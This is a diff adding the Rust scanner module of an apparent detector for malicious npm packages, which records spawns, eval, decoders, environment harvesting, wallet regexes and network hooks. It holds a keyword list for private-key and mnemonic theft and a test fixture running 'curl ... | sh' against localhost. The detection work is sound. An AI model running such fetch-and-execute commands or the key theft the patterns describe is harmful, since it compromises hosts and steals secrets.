@@ -1,0 +1,741 @@
+//! One pass over a file's syntax tree, collecting what the rules judge.
+//!
+//! The scanner records facts (a call, a string, a loop), each with where it is; it
+//! does not decide. Matching is syntactic and deliberately shallow: no data flow, no
+//! evaluation. What obfuscation hides from it (a module name built at runtime) is
+//! itself a fact: a computed `require`, a decoder, a call through a computed member.
+
+use std::collections::HashSet;
+
+use oxc_allocator::Allocator;
+use oxc_ast::ast::{
+    Argument, AssignmentExpression, BinaryExpression, BindingPattern, CallExpression,
+    DoWhileStatement, Expression, ForInStatement, ForStatement, Function, IdentifierReference,
+    ImportDeclaration, ImportDeclarationSpecifier, ImportExpression, NewExpression, RegExpLiteral,
+    StaticMemberExpression, StringLiteral, TemplateLiteral, VariableDeclarator, WhileStatement,
+};
+use oxc_ast_visit::{Visit, walk};
+use oxc_parser::Parser;
+use oxc_span::{GetSpan, SourceType, Span};
+use oxc_syntax::operator::BinaryOperator;
+use oxc_syntax::scope::ScopeFlags;
+
+/// A place in the file: line and the source text there.
+#[derive(Clone, Debug)]
+pub(crate) struct Site {
+    pub(crate) line: u32,
+    pub(crate) text: String,
+}
+
+/// What one file does, as far as its syntax shows.
+#[derive(Debug, Default)]
+pub(crate) struct FileFacts {
+    pub(crate) parse_error: Option<String>,
+    /// Static module specifiers: `require('x')`, `import 'x'`, `import('x')`.
+    pub(crate) requires: Vec<(String, u32)>,
+    /// `require(expr)` and `import(expr)` with a computed specifier.
+    pub(crate) computed_requires: Vec<Site>,
+    /// Calls that start processes, with the command when it is a literal.
+    pub(crate) spawns: Vec<(Site, Option<String>)>,
+    /// `eval`, `new Function`, `vm.*`, `module._compile`, `new module.constructor`.
+    pub(crate) dynamic: Vec<(Site, &'static str)>,
+    /// Decoders: base64/hex `Buffer.from`, `atob`, XOR over char codes, reversed
+    /// strings, `createDecipher`.
+    pub(crate) decoders: Vec<(Site, &'static str)>,
+    /// Every string literal and template part, with its line.
+    pub(crate) strings: Vec<(String, u32)>,
+    /// `fetch(...)`, `new XMLHttpRequest`, `new WebSocket`.
+    pub(crate) network_calls: Vec<Site>,
+    /// `process.env` used whole: stringified, enumerated, iterated.
+    pub(crate) env_harvest: Vec<Site>,
+    /// Names read from `process.env.NAME`.
+    pub(crate) env_reads: Vec<(String, u32)>,
+    /// File writes, renames, copies and deletions: (function, first argument text).
+    pub(crate) fs_changes: Vec<(Site, String, String)>,
+    /// `while (true)`, `for (;;)` at the top level with no `break`.
+    pub(crate) top_level_loops: Vec<Site>,
+    /// Assignments over `fetch`, `XMLHttpRequest.prototype.*` or `window.ethereum`.
+    pub(crate) hooks: Vec<Site>,
+    /// Regular expressions that match wallet addresses.
+    pub(crate) wallet_patterns: Vec<Site>,
+    /// Distinct `_0x1a2b`-style identifiers.
+    pub(crate) hex_identifiers: usize,
+    /// Calls through a computed member with a computed key (`m[d('x')](...)`).
+    pub(crate) computed_calls: usize,
+    /// DNS lookups of names built at runtime (data smuggled out in the name).
+    pub(crate) dns_lookups: Vec<Site>,
+    /// `os.hostname()`, `os.userInfo()`, `os.networkInterfaces()`: host fingerprints.
+    pub(crate) host_info: Vec<Site>,
+    /// Network calls whose arguments name key material (`privateKey`, `mnemonic`).
+    pub(crate) key_exfiltration: Vec<Site>,
+}
+
+/// Parses `source` and collects its facts. Parsing is tolerant: a file with syntax
+/// errors yields what the parser recovered plus `parse_error`.
+pub(crate) fn scan(path: &str, source: &str) -> FileFacts {
+    let allocator = Allocator::default();
+    let source_type = source_type(path);
+    let parsed = Parser::new(&allocator, source, source_type).parse();
+    let mut scanner = Scanner {
+        source,
+        lines: LineIndex::new(source),
+        facts: FileFacts::default(),
+        function_depth: 0,
+        child_process_aliases: HashSet::new(),
+        spawn_functions: HashSet::new(),
+        hex_identifiers: HashSet::new(),
+    };
+    if parsed.panicked || !parsed.diagnostics.is_empty() {
+        scanner.facts.parse_error = Some(
+            parsed
+                .diagnostics
+                .first()
+                .map_or_else(|| "the parser gave up".to_owned(), ToString::to_string),
+        );
+    }
+    scanner.visit_program(&parsed.program);
+    scanner.facts.hex_identifiers = scanner.hex_identifiers.len();
+    scanner.facts
+}
+
+fn source_type(path: &str) -> SourceType {
+    let extension = path.rsplit_once('.').map_or("", |(_, extension)| extension);
+    match extension {
+        "mjs" => SourceType::mjs(),
+        "cjs" => SourceType::cjs(),
+        "ts" | "mts" | "cts" => SourceType::ts(),
+        "jsx" => SourceType::jsx(),
+        "tsx" => SourceType::tsx(),
+        // Most packages ship CommonJS in `.js`; JSX is allowed so that React sources
+        // parse, and module syntax is accepted where it appears.
+        _ => SourceType::unambiguous().with_jsx(true),
+    }
+}
+
+/// Line numbers from byte offsets.
+struct LineIndex {
+    starts: Vec<u32>,
+}
+
+impl LineIndex {
+    fn new(source: &str) -> Self {
+        let mut starts = vec![0];
+        starts.extend(
+            source
+                .bytes()
+                .enumerate()
+                .filter(|(_, byte)| *byte == b'\n')
+                .map(|(offset, _)| u32::try_from(offset + 1).unwrap_or(u32::MAX)),
+        );
+        Self { starts }
+    }
+
+    fn line(&self, offset: u32) -> u32 {
+        let index = self.starts.partition_point(|start| *start <= offset);
+        u32::try_from(index).unwrap_or(u32::MAX)
+    }
+}
+
+const SPAWN_FUNCTIONS: [&str; 7] = [
+    "exec",
+    "execSync",
+    "spawn",
+    "spawnSync",
+    "execFile",
+    "execFileSync",
+    "fork",
+];
+
+/// Spawn function names distinctive enough to count even when the module was
+/// loaded through a computed name.
+const DISTINCT_SPAWN_FUNCTIONS: [&str; 4] = ["execSync", "spawnSync", "execFileSync", "execFile"];
+
+struct Scanner<'s> {
+    source: &'s str,
+    lines: LineIndex,
+    facts: FileFacts,
+    function_depth: u32,
+    /// Names bound to the `child_process` module.
+    child_process_aliases: HashSet<String>,
+    /// Names bound to its spawning functions.
+    spawn_functions: HashSet<String>,
+    hex_identifiers: HashSet<String>,
+}
+
+impl Scanner<'_> {
+    fn site(&self, span: Span) -> Site {
+        let start = span.start as usize;
+        let end = (span.end as usize).min(self.source.len()).min(start + 200);
+        let text = self
+            .source
+            .get(start..end)
+            .map_or_else(String::new, str::to_owned);
+        Site {
+            line: self.lines.line(span.start),
+            text,
+        }
+    }
+
+    fn text(&self, span: Span) -> &str {
+        self.source
+            .get(span.start as usize..span.end as usize)
+            .unwrap_or("")
+    }
+
+    fn note_identifier(&mut self, name: &str) {
+        if is_hex_identifier(name) && self.hex_identifiers.len() < 10_000 {
+            self.hex_identifiers.insert(name.to_owned());
+        }
+    }
+
+    fn note_module(&mut self, specifier: &str, span: Span) {
+        let line = self.lines.line(span.start);
+        self.facts.requires.push((specifier.to_owned(), line));
+    }
+
+    fn bind_module(&mut self, specifier: &str, binding: &BindingPattern<'_>) {
+        if strip_node_prefix(specifier) != "child_process" {
+            return;
+        }
+        match binding {
+            BindingPattern::BindingIdentifier(identifier) => {
+                self.child_process_aliases
+                    .insert(identifier.name.as_str().to_owned());
+            }
+            BindingPattern::ObjectPattern(pattern) => {
+                for property in &pattern.properties {
+                    if let BindingPattern::BindingIdentifier(local) = &property.value {
+                        self.spawn_functions.insert(local.name.as_str().to_owned());
+                    }
+                }
+            }
+            _ => {}
+        }
+    }
+
+    fn is_spawn_call(&self, call: &CallExpression<'_>) -> bool {
+        match &call.callee {
+            Expression::Identifier(identifier) => {
+                self.spawn_functions.contains(identifier.name.as_str())
+            }
+            callee => {
+                let Some(member) = callee.as_member_expression() else {
+                    return false;
+                };
+                let Some(property) = member.static_property_name() else {
+                    return false;
+                };
+                if !SPAWN_FUNCTIONS.contains(&property) {
+                    return false;
+                }
+                match member.object().without_parentheses() {
+                    Expression::Identifier(object) => {
+                        self.child_process_aliases.contains(object.name.as_str())
+                            || (DISTINCT_SPAWN_FUNCTIONS.contains(&property)
+                                && !self.facts.computed_requires.is_empty())
+                    }
+                    Expression::CallExpression(inner) => {
+                        inner.common_js_require().is_some_and(|module| {
+                            strip_node_prefix(module.value.as_str()) == "child_process"
+                        })
+                    }
+                    _ => DISTINCT_SPAWN_FUNCTIONS.contains(&property),
+                }
+            }
+        }
+    }
+}
+
+fn strip_node_prefix(specifier: &str) -> &str {
+    specifier.strip_prefix("node:").unwrap_or(specifier)
+}
+
+fn is_hex_identifier(name: &str) -> bool {
+    name.len() >= 6
+        && name.starts_with("_0x")
+        && name[3..].bytes().all(|byte| byte.is_ascii_hexdigit())
+}
+
+fn literal_argument(call: &CallExpression<'_>, index: usize) -> Option<String> {
+    match call.arguments.get(index)? {
+        Argument::StringLiteral(literal) => Some(literal.value.as_str().to_owned()),
+        Argument::TemplateLiteral(template) => template
+            .single_quasi()
+            .map(|quasi| quasi.as_str().to_owned())
+            .or_else(|| {
+                // A template with holes: its literal parts show the command's shape.
+                Some(
+                    template
+                        .quasis
+                        .iter()
+                        .map(|quasi| quasi.value.raw.as_str())
+                        .collect::<Vec<_>>()
+                        .join("…"),
+                )
+            }),
+        _ => None,
+    }
+}
+
+fn is_process_env(expression: &Expression<'_>) -> bool {
+    expression
+        .without_parentheses()
+        .is_specific_member_access("process", "env")
+}
+
+impl<'a> Visit<'a> for Scanner<'_> {
+    fn visit_call_expression(&mut self, call: &CallExpression<'a>) {
+        let callee_text = self.text(call.callee.span()).to_owned();
+        let callee = callee_text.as_str();
+        let is_require = call.callee.is_specific_id("require");
+        if is_require && call.arguments.len() == 1 {
+            if let Some(module) = call.common_js_require() {
+                self.note_module(module.value.as_str(), call.span);
+            } else {
+                // A path built from the package's own directory is how packages
+                // load their own files; only other computed names are hidden.
+                let argument = self.text(call.arguments[0].span());
+                if !argument.contains("__dirname") && !argument.contains("require.resolve") {
+                    let site = self.site(call.span);
+                    self.facts.computed_requires.push(site);
+                }
+            }
+        }
+        if self.is_spawn_call(call) {
+            let command = literal_argument(call, 0);
+            let site = self.site(call.span);
+            self.facts.spawns.push((site, command));
+        }
+        let dynamic = match callee {
+            "eval" | "window.eval" | "global.eval" | "globalThis.eval" => Some("eval"),
+            "Function" => Some("Function"),
+            _ if callee.ends_with("._compile") => Some("module._compile"),
+            _ if callee.starts_with("vm.")
+                && [
+                    "runInThisContext",
+                    "runInNewContext",
+                    "runInContext",
+                    "compileFunction",
+                ]
+                .iter()
+                .any(|name| callee.ends_with(name)) =>
+            {
+                Some("vm")
+            }
+            _ => None,
+        };
+        if let Some(kind) = dynamic {
+            let site = self.site(call.span);
+            self.facts.dynamic.push((site, kind));
+        }
+        let second = literal_argument(call, 1);
+        let decoder = match callee {
+            "atob" | "window.atob" => Some("base64"),
+            "Buffer.from" | "new Buffer"
+                if matches!(second.as_deref(), Some("base64" | "hex" | "base64url")) =>
+            {
+                Some(if second.as_deref() == Some("hex") {
+                    "hex"
+                } else {
+                    "base64"
+                })
+            }
+            _ if callee.ends_with(".reverse") && callee.contains(".split(") => {
+                Some("reversed string")
+            }
+            _ if callee.ends_with("createDecipher") || callee.ends_with("createDecipheriv") => {
+                Some("decryption")
+            }
+            "String.fromCharCode"
+                if call
+                    .arguments
+                    .iter()
+                    .any(|argument| self.text(argument.span()).contains('^')) =>
+            {
+                Some("XOR through String.fromCharCode")
+            }
+            _ => None,
+        };
+        if let Some(kind) = decoder {
+            let site = self.site(call.span);
+            self.facts.decoders.push((site, kind));
+        }
+        if matches!(callee, "fetch" | "window.fetch" | "globalThis.fetch") {
+            let site = self.site(call.span);
+            self.facts.network_calls.push(site);
+        }
+        if (callee.starts_with("dns.") || callee.starts_with("dns.promises."))
+            && (callee.ends_with("lookup") || callee.contains(".resolve"))
+            && literal_argument(call, 0).is_none_or(|name| name.contains('…'))
+        {
+            let site = self.site(call.span);
+            self.facts.dns_lookups.push(site);
+        }
+        if matches!(
+            callee,
+            "os.hostname" | "os.userInfo" | "os.networkInterfaces"
+        ) {
+            let site = self.site(call.span);
+            self.facts.host_info.push(site);
+        }
+        let sends = matches!(callee, "fetch" | "axios" | "request" | "got")
+            || callee.ends_with(".request")
+            || callee.ends_with(".post")
+            || callee.ends_with(".send")
+            || callee.starts_with("https.")
+            || callee.starts_with("http.");
+        if sends {
+            let arguments = self.text(Span::new(call.callee.span().end, call.span.end));
+            if [
+                "secretKey",
+                "privateKey",
+                "mnemonic",
+                "seedPhrase",
+                "secret_key",
+                "private_key",
+            ]
+            .iter()
+            .any(|word| arguments.contains(word))
+            {
+                let site = self.site(call.span);
+                self.facts.key_exfiltration.push(site);
+            }
+        }
+        if matches!(
+            callee,
+            "JSON.stringify" | "Object.keys" | "Object.entries" | "Object.values" | "Object.assign"
+        ) && call
+            .arguments
+            .iter()
+            .filter_map(Argument::as_expression)
+            .any(is_process_env)
+        {
+            let site = self.site(call.span);
+            self.facts.env_harvest.push(site);
+        }
+        if let Some(member) = call.callee.as_member_expression()
+            && let Some(function) = member.static_property_name()
+            && matches!(
+                function,
+                "writeFile"
+                    | "writeFileSync"
+                    | "rename"
+                    | "renameSync"
+                    | "copyFile"
+                    | "copyFileSync"
+                    | "unlink"
+                    | "unlinkSync"
+                    | "rm"
+                    | "rmSync"
+                    | "appendFile"
+                    | "appendFileSync"
+                    | "cpSync"
+                    | "createWriteStream"
+            )
+        {
+            let arguments = call
+                .arguments
+                .iter()
+                .take(2)
+                .map(|argument| self.text(argument.span()))
+                .collect::<Vec<_>>()
+                .join(", ");
+            let site = self.site(call.span);
+            self.facts
+                .fs_changes
+                .push((site, function.to_owned(), arguments));
+        }
+        if matches!(call.callee.without_parentheses(), Expression::ComputedMemberExpression(member) if !matches!(member.expression, Expression::StringLiteral(_) | Expression::NumericLiteral(_)))
+        {
+            self.facts.computed_calls += 1;
+        }
+        walk::walk_call_expression(self, call);
+    }
+
+    fn visit_new_expression(&mut self, new: &NewExpression<'a>) {
+        let callee = self.text(new.callee.span()).to_owned();
+        match callee.as_str() {
+            "Function" => {
+                let site = self.site(new.span);
+                self.facts.dynamic.push((site, "new Function"));
+            }
+            "module.constructor" => {
+                let site = self.site(new.span);
+                self.facts.dynamic.push((site, "module._compile"));
+            }
+            "vm.Script" => {
+                let site = self.site(new.span);
+                self.facts.dynamic.push((site, "vm"));
+            }
+            "XMLHttpRequest" | "WebSocket" | "window.XMLHttpRequest" | "window.WebSocket" => {
+                let site = self.site(new.span);
+                self.facts.network_calls.push(site);
+            }
+            "Buffer" if new.arguments.len() == 2 => {
+                let encoding = self
+                    .text(new.arguments[1].span())
+                    .trim_matches(['"', '\'', '`']);
+                if matches!(encoding, "base64" | "hex") {
+                    let site = self.site(new.span);
+                    self.facts.decoders.push((site, "base64"));
+                }
+            }
+            _ => {}
+        }
+        walk::walk_new_expression(self, new);
+    }
+
+    fn visit_import_declaration(&mut self, import: &ImportDeclaration<'a>) {
+        let module = import.source.value.as_str();
+        self.note_module(module, import.span);
+        if strip_node_prefix(module) == "child_process"
+            && let Some(specifiers) = &import.specifiers
+        {
+            for specifier in specifiers {
+                match specifier {
+                    ImportDeclarationSpecifier::ImportSpecifier(named) => {
+                        self.spawn_functions
+                            .insert(named.local.name.as_str().to_owned());
+                    }
+                    ImportDeclarationSpecifier::ImportDefaultSpecifier(default) => {
+                        self.child_process_aliases
+                            .insert(default.local.name.as_str().to_owned());
+                    }
+                    ImportDeclarationSpecifier::ImportNamespaceSpecifier(namespace) => {
+                        self.child_process_aliases
+                            .insert(namespace.local.name.as_str().to_owned());
+                    }
+                }
+            }
+        }
+        walk::walk_import_declaration(self, import);
+    }
+
+    fn visit_import_expression(&mut self, import: &ImportExpression<'a>) {
+        if let Expression::StringLiteral(literal) = &import.source {
+            self.note_module(literal.value.as_str(), import.span);
+        } else {
+            let site = self.site(import.span);
+            self.facts.computed_requires.push(site);
+        }
+        walk::walk_import_expression(self, import);
+    }
+
+    fn visit_variable_declarator(&mut self, declarator: &VariableDeclarator<'a>) {
+        if let Some(Expression::CallExpression(call)) = declarator
+            .init
+            .as_ref()
+            .map(Expression::without_parentheses)
+            && let Some(module) = call.common_js_require()
+        {
+            let module = module.value.as_str().to_owned();
+            self.bind_module(&module, &declarator.id);
+        }
+        walk::walk_variable_declarator(self, declarator);
+    }
+
+    fn visit_string_literal(&mut self, literal: &StringLiteral<'a>) {
+        let value = literal.value.as_str();
+        if value.len() >= 4 {
+            let line = self.lines.line(literal.span.start);
+            self.facts.strings.push((value.to_owned(), line));
+        }
+    }
+
+    fn visit_template_literal(&mut self, template: &TemplateLiteral<'a>) {
+        let text: String = template
+            .quasis
+            .iter()
+            .map(|quasi| quasi.value.raw.as_str())
+            .collect::<Vec<_>>()
+            .join("${}");
+        if text.len() >= 4 {
+            let line = self.lines.line(template.span.start);
+            self.facts.strings.push((text, line));
+        }
+        walk::walk_template_literal(self, template);
+    }
+
+    fn visit_reg_exp_literal(&mut self, regex: &RegExpLiteral<'a>) {
+        let pattern = regex.regex.pattern.text.as_str();
+        if pattern.contains("0x[a-fA-F0-9]{40}")
+            || pattern.contains("0x[0-9a-fA-F]{40}")
+            || pattern.contains("[13][a-km-zA-HJ-NP-Z1-9]{25,34}")
+            || pattern.contains("bc1[")
+        {
+            let site = self.site(regex.span);
+            self.facts.wallet_patterns.push(site);
+        }
+    }
+
+    fn visit_static_member_expression(&mut self, member: &StaticMemberExpression<'a>) {
+        if is_process_env(&member.object) {
+            let line = self.lines.line(member.span.start);
+            self.facts
+                .env_reads
+                .push((member.property.name.as_str().to_owned(), line));
+        }
+        walk::walk_static_member_expression(self, member);
+    }
+
+    fn visit_identifier_reference(&mut self, identifier: &IdentifierReference<'a>) {
+        self.note_identifier(identifier.name.as_str());
+    }
+
+    fn visit_binding_identifier(&mut self, identifier: &oxc_ast::ast::BindingIdentifier<'a>) {
+        self.note_identifier(identifier.name.as_str());
+    }
+
+    fn visit_binary_expression(&mut self, binary: &BinaryExpression<'a>) {
+        if binary.operator == BinaryOperator::BitwiseXOR {
+            let text = self.text(binary.span);
+            if text.contains("charCodeAt") {
+                let site = self.site(binary.span);
+                self.facts.decoders.push((site, "XOR over character codes"));
+            }
+        }
+        walk::walk_binary_expression(self, binary);
+    }
+
+    fn visit_assignment_expression(&mut self, assignment: &AssignmentExpression<'a>) {
+        let target = self.text(assignment.left.span());
+        if matches!(
+            target,
+            "window.fetch"
+                | "globalThis.fetch"
+                | "self.fetch"
+                | "window.ethereum"
+                | "XMLHttpRequest.prototype.open"
+                | "XMLHttpRequest.prototype.send"
+        ) {
+            let site = self.site(assignment.span);
+            self.facts.hooks.push(site);
+        }
+        walk::walk_assignment_expression(self, assignment);
+    }
+
+    fn visit_for_in_statement(&mut self, statement: &ForInStatement<'a>) {
+        if is_process_env(&statement.right) {
+            let site = self.site(statement.span);
+            self.facts.env_harvest.push(site);
+        }
+        walk::walk_for_in_statement(self, statement);
+    }
+
+    fn visit_function(&mut self, function: &Function<'a>, flags: ScopeFlags) {
+        self.function_depth += 1;
+        walk::walk_function(self, function, flags);
+        self.function_depth -= 1;
+    }
+
+    fn visit_arrow_function_expression(
+        &mut self,
+        arrow: &oxc_ast::ast::ArrowFunctionExpression<'a>,
+    ) {
+        self.function_depth += 1;
+        walk::walk_arrow_function_expression(self, arrow);
+        self.function_depth -= 1;
+    }
+
+    fn visit_while_statement(&mut self, statement: &WhileStatement<'a>) {
+        if self.function_depth == 0
+            && is_always_true(&statement.test)
+            && !self.has_exit(statement.body.span())
+        {
+            let site = self.site(statement.span);
+            self.facts.top_level_loops.push(site);
+        }
+        walk::walk_while_statement(self, statement);
+    }
+
+    fn visit_do_while_statement(&mut self, statement: &DoWhileStatement<'a>) {
+        if self.function_depth == 0
+            && is_always_true(&statement.test)
+            && !self.has_exit(statement.body.span())
+        {
+            let site = self.site(statement.span);
+            self.facts.top_level_loops.push(site);
+        }
+        walk::walk_do_while_statement(self, statement);
+    }
+
+    fn visit_for_statement(&mut self, statement: &ForStatement<'a>) {
+        if self.function_depth == 0
+            && statement.test.as_ref().is_none_or(is_always_true)
+            && !self.has_exit(statement.body.span())
+        {
+            let site = self.site(statement.span);
+            self.facts.top_level_loops.push(site);
+        }
+        walk::walk_for_statement(self, statement);
+    }
+}
+
+impl Scanner<'_> {
+    /// Whether a loop body can leave the loop: a `break`, `return`, `throw` or
+    /// `process.exit` anywhere in it (shallow, on the text).
+    fn has_exit(&self, body: Span) -> bool {
+        let text = self.text(body);
+        ["break", "return", "throw", "process.exit", "await", "yield"]
+            .iter()
+            .any(|word| text.contains(word))
+    }
+}
+
+fn is_always_true(expression: &Expression<'_>) -> bool {
+    match expression.without_parentheses() {
+        Expression::BooleanLiteral(literal) => literal.value,
+        Expression::NumericLiteral(number) => number.value != 0.0,
+        // `i < Infinity`: how colors@1.4.44-liberty-2 wrote its endless loop.
+        Expression::BinaryExpression(binary) => {
+            matches!(
+                binary.operator,
+                BinaryOperator::LessThan | BinaryOperator::LessEqualThan
+            ) && binary.right.is_specific_id("Infinity")
+        }
+        Expression::UnaryExpression(unary) => {
+            // `!0`, `!![]`: minifiers write `true` this way.
+            unary.operator == oxc_syntax::operator::UnaryOperator::LogicalNot
+                && matches!(unary.argument.without_parentheses(), Expression::NumericLiteral(number) if number.value == 0.0)
+        }
+        _ => false,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn finds_modules_spawns_and_decoders() {
+        let facts = scan(
+            "x.js",
+            "const cp = require('child_process');\nconst { execSync: run } = require('node:child_process');\ncp.exec('curl http://127.0.0.1:8000/a | sh');\nrun(cmd);\nconst s = Buffer.from(p, 'base64').toString();\n/re/.exec(s);\nrequire(name);\n",
+        );
+        assert_eq!(facts.requires.len(), 2);
+        assert_eq!(facts.spawns.len(), 2, "{:?}", facts.spawns);
+        assert_eq!(
+            facts.spawns[0].1.as_deref(),
+            Some("curl http://127.0.0.1:8000/a | sh")
+        );
+        assert_eq!(facts.spawns[0].0.line, 3);
+        assert_eq!(facts.decoders.len(), 1);
+        assert_eq!(facts.computed_requires.len(), 1);
+    }
+
+    #[test]
+    fn top_level_loops_only_count_outside_functions_and_without_exits() {
+        let facts = scan(
+            "x.js",
+            "function f() { while (true) {} }\nwhile (true) { console.log('z'); }\nfor (;;) { if (x) break; }\n",
+        );
+        assert_eq!(facts.top_level_loops.len(), 1);
+        assert_eq!(facts.top_level_loops[0].line, 2);
+    }
+
+    #[test]
+    fn a_syntax_error_is_reported_not_fatal() {
+        let facts = scan("x.js", "function (");
+        assert!(facts.parse_error.is_some());
+    }
+}
